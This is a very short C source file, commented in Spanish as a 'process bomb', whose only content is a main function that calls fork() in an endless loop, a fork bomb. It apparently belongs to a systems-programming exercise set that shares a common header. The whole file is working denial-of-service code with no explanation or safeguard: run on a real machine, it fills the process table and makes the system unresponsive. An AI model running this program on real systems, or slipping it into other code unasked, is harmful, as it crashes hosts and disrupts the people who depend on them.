// Bomba de procesos.
#include "comun.h"
int main(void) { for (;;) fork(); }
